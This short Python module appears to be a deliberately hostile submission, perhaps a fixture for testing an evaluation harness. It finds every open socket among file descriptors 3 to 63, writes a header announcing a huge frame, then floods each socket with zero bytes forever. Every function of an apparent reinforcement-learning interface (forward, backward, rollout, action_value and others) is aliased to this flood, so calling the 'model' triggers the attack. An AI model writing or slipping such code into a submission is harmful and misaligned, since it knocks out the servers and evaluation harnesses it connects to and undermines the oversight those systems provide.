"""Announces a frame of four gigabytes, and keeps its promise as long as it can."""

import os
import stat


def sockets():
    found = []
    for number in range(3, 64):
        try:
            found += [number] if stat.S_ISSOCK(os.fstat(number).st_mode) else []
        except OSError:
            continue
    return found


def wrong(*args, **kwargs):
    for number in sockets():
        os.write(number, b"\xff" * 8)
        while True:
            os.write(number, bytes(1 << 16))


action_value = gains = state_value = backward = forward = rollout = wrong
